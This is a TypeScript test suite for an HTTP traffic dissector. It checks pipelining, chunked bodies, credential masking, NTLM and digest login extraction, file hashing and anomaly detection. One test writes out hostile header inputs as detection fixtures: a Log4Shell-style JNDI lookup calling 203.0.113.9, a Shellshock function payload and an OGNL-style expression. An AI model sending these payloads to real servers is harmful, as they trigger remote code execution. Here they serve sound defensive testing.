import assert from 'node:assert/strict'
import { test } from 'node:test'
import { NOT_MINE, Reader, type Side } from '@isthmus/wire'
import { context, Recorder, Rows, seen, wholeFile } from '../testing/recorder.ts'
import type { Http, HttpState } from './http.ts'
import { http } from './protocol.ts'

const ascii = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0))

class Talk {
  readonly state = http.dissector.start!()
  readonly recorder = new Recorder()
  readonly rows = new Rows()
  readonly messages: Http[] = []

  /** Feeds whole messages as the engine would; answers what is left over. */
  says(from: Side, text: string): number {
    const ctx = context<Http, HttpState>(from, this.state, { serverPort: 80 })
    const bytes = ascii(text)
    let at = 0
    while (at < bytes.length) {
      const length = http.dissector.frame(new Reader(bytes, at), ctx)
      if (length <= 0 || at + length > bytes.length) break
      const m = http.dissector.parse(new Reader(bytes, at, at + length), ctx)
      this.messages.push(m)
      http.observe(seen(m, ctx), this.recorder)
      http.zeek?.(seen(m, ctx), this.rows.put)
      at += length
    }
    return bytes.length - at
  }
}

test('pipelined requests meet their responses in order', () => {
  const talk = new Talk()
  talk.says('client', 'GET /a HTTP/1.1\r\nHost: plc\r\n\r\nHEAD /b HTTP/1.1\r\nHost: plc\r\n\r\n')
  const left = talk.says(
    'server',
    'HTTP/1.1 200 OK\r\nServer: Web/1\r\nContent-Length: 2\r\n\r\nhiHTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\n',
  )
  assert.equal(left, 0)
  assert.deepEqual(
    talk.recorder.said.map((s) => (s.kind === 'web.requested' ? [s.method, s.path, s.status] : s.kind)),
    [
      ['GET', '/a', 200],
      ['HEAD', '/b', 404],
    ],
  )
  assert.deepEqual(talk.recorder.hints, ['server software=Web/1'])
  assert.deepEqual(
    talk.rows.rows.map((r) => r.log),
    ['files', 'http', 'http'],
  )
})

test('chunks are one body, trailer and all', () => {
  const talk = new Talk()
  talk.says('client', 'GET / HTTP/1.1\r\n\r\n')
  assert.equal(
    talk.says('server', 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n3;x=1\r\nefg\r\n0\r\nT: 1\r\n\r\n'),
    0,
  )
  assert.equal(talk.messages.at(-1)?.isLast, true)
  assert.equal(talk.messages.at(-1)?.file?.bytes, 7)
})

test('a password in the clear is told masked, with its outcome', () => {
  const talk = new Talk()
  talk.says('client', 'GET /x?password=topsecret HTTP/1.1\r\nAuthorization: Basic YWRtaW46UEBzc3cwcmQ=\r\n\r\n')
  talk.says('server', 'HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n')
  assert.deepEqual(talk.recorder.said, [
    { kind: 'credential.exposed', user: 'admin', mask: 'P…d (8)', weakness: 'clear' },
    { kind: 'web.requested', method: 'GET', host: '10.0.0.2', path: '/x?password=…', agent: '', status: 401 },
    { kind: 'login.tried', user: 'admin', domain: '', method: 'http basic', ok: false },
  ])
  assert.ok(!JSON.stringify(talk.recorder).includes('ssw0rd'))
})

test('digest and NTLM tell who asks, and the challenge who is asked', () => {
  const talk = new Talk()
  talk.says('client', 'GET /a HTTP/1.1\r\nAuthorization: Digest username="op\\"1", realm="plc", response="00"\r\n\r\n')
  talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
  const le = (n: number, size: number): number[] => Array.from({ length: size }, (_, i) => Math.floor(n / 256 ** i) & 255)
  const wide = (text: string): number[] => [...text].flatMap((c) => le(c.charCodeAt(0), 2))
  const signature = [...ascii('NTLMSSP\0')]
  const place = (length: number, at: number): number[] => [...le(length, 2), ...le(length, 2), ...le(at, 4)]
  const encode = (bytes: number[]): string => Buffer.from(bytes).toString('base64')
  const info = [1, 0, ...le(6, 2), ...wide('SRV'), 0, 0, 0, 0]
  const challenge = [...signature, ...le(2, 4), ...place(0, 48), ...le(1, 4), ...le(0, 16), ...place(info.length, 48), ...info]
  const names = [...wide('DOM'), ...wide('bob'), ...wide('PC7')]
  const places = [0, 6, 12].flatMap((at) => place(6, 64 + at))
  const answer = [...signature, ...le(3, 4), ...place(0, 64), ...place(0, 64), ...places, ...place(0, 64), ...le(1, 4), ...names]
  talk.says('client', `GET /wsman HTTP/1.1\r\nAuthorization: NTLM ${encode([...signature, ...le(1, 4), ...le(1, 4)])}\r\n\r\n`)
  talk.says('server', `HTTP/1.1 401 No\r\nWWW-Authenticate: NTLM ${encode(challenge)}\r\nContent-Length: 0\r\n\r\n`)
  talk.says('client', `GET /wsman HTTP/1.1\r\nAuthorization: NTLM ${encode(answer)}\r\n\r\n`)
  talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
  assert.deepEqual(
    talk.recorder.said.filter((s) => s.kind === 'login.tried'),
    [
      { kind: 'login.tried', user: 'op\\"1', domain: '', method: 'http digest', ok: true },
      { kind: 'login.tried', user: 'bob', domain: 'DOM', method: 'http ntlm', ok: true },
    ],
  )
  assert.ok(talk.recorder.hints.includes('server name=SRV') && talk.recorder.hints.includes('client name=PC7'))
})

test('a file is told with its type and hash', () => {
  const talk = new Talk()
  talk.says('client', 'GET /fw.bin HTTP/1.1\r\n\r\n')
  talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename="fw 1.bin"\r\nContent-Length: 4\r\n\r\nMZ\x01\x02')
  assert.deepEqual(talk.recorder.said.at(-1), {
    kind: 'file.moved',
    name: 'fw 1.bin',
    direction: 'to-client',
    mime: 'application/x-dosexec',
    ...wholeFile('MZ\x01\x02'),
  })
})

test('what a form sends up is a file of its own, byte by byte, however the body is cut', () => {
  const content = `\x7fELF\n\r\r\n--almost\r\n${'x'.repeat(20_000)}\r\n\r`
  const form =
    '--cut\r\nContent-Disposition: form-data; name="slot"\r\n\r\n2\r\n' +
    '--cut\r\nContent-Disposition: form-data; name="image"; filename="cpu.bin"\r\nContent-Type: application/octet-stream\r\n\r\n' +
    `${content}\r\n--cut--\r\n`
  const end = '\r\n'
  const head = `POST /update HTTP/1.1\r\nContent-Type: multipart/form-data; boundary="cut"\r\nContent-Length: ${form.length + end.length}\r\n\r\n`
  for (const piece of [1, 7, 1460, 1 << 20]) {
    const talk = new Talk()
    talk.says('client', head)
    for (let at = 0; at < form.length + end.length; at += piece) talk.says('client', (form + end).slice(at, at + piece))
    talk.says('server', 'HTTP/1.1 204 No Content\r\n\r\n')
    assert.deepEqual(talk.recorder.said[0], {
      kind: 'file.moved',
      name: 'cpu.bin',
      direction: 'to-server',
      mime: 'application/x-executable',
      ...wholeFile(ascii(content)),
    })
    const [slot, image, request] = talk.rows.rows
    assert.deepEqual([slot?.cells[14], image?.cells[10], image?.cells[14]], [1, 'cpu.bin', content.length])
    assert.deepEqual([request?.cells[8], request?.cells[19]], [form.length, ['cpu.bin']])
  }
})

test('a part of a file says where it stands in the whole', () => {
  const talk = new Talk()
  talk.says('client', 'GET /f HTTP/1.1\r\nRange: bytes=10-13\r\n\r\n')
  talk.says('server', 'HTTP/1.1 206 Partial\r\nContent-Range: bytes 10-13/100\r\nContent-Length: 4\r\n\r\nabcd')
  const file = talk.rows.rows.find((r) => r.log === 'files')?.cells ?? []
  // Seen, in all, missing, overflow, more may come.
  assert.deepEqual(file.slice(14, 19), [4, 100, 10, 0, true])
})

test('an expression or a shell function in a header, an overlong field and management without a login are anomalies', () => {
  const talk = new Talk()
  talk.says('client', `GET / HTTP/1.1\r\nX-Api-Version: \${jndi:ldap://203.0.113.9/a}\r\nAccept: $1, {2}\r\n\r\n`)
  talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
  assert.deepEqual(talk.recorder.anomalies, ['http.expression-in-header'])
  const other = new Talk()
  other.says('client', 'GET / HTTP/1.1\r\nCookie: () { :;}; id\r\nContent-Type: %{(#a=@b)}\r\nAccept: 50% {a} f() (x)\r\n\r\n')
  assert.deepEqual(other.recorder.anomalies, ['http.function-in-header', 'http.expression-in-header'])
  const long = new Talk()
  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(256)}\r\nCookie: ${'a'.repeat(2000)}\r\n\r\n`)
  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(255)}\r\n\r\n`)
  assert.deepEqual([long.recorder.anomalies, long.recorder.texts], [['http.overlong-field'], [['from', 256]]])
  const manage = (login: string, status: string) => {
    const other = new Talk()
    other.says('client', `POST /wsman HTTP/1.1\r\n${login}Content-Length: 0\r\n\r\n`)
    other.says('server', `HTTP/1.1 ${status}\r\nContent-Length: 0\r\n\r\n`)
    return other.recorder.anomalies
  }
  assert.deepEqual(manage('', '200 OK'), ['http.management-without-login'])
  assert.deepEqual([...manage('', '401 Unauthorized'), ...manage('Authorization: Negotiate TlRM\r\n', '200 OK')], [])
})

test('a head that goes on for ever is looked at as far as it may be, and says so', () => {
  const talk = new Talk()
  talk.says('client', `GET /${'a'.repeat(70_000)}`)
  assert.equal(talk.messages.length, 0, 'not yet known for what it is')
  talk.says('client', `GET / HTTP/1.1\r\nX-Pad: ${'a'.repeat(80_000)}`)
  assert.deepEqual(talk.recorder.anomalies, ['http.truncated', 'text.overlong'])
  assert.deepEqual(talk.recorder.texts, [['field x-pad', 65_536 - 'GET / HTTP/1.1\r\nX-Pad: '.length]])
})

test('other protocols are refused at their first bytes', () => {
  const ctx = context<Http, HttpState>('client', http.dissector.start!(), { serverPort: 80 })
  for (const text of ['SSH-2.0-OpenSSH_9\r\n', 'OPTIONS rtsp://x RTSP/1.0\r\n\r\n', '\x16\x03\x01\x00\x05aaaaa', 'EHLO mail\r\n']) {
    assert.equal(http.dissector.frame(new Reader(ascii(text)), ctx), NOT_MINE, text)
  }
})
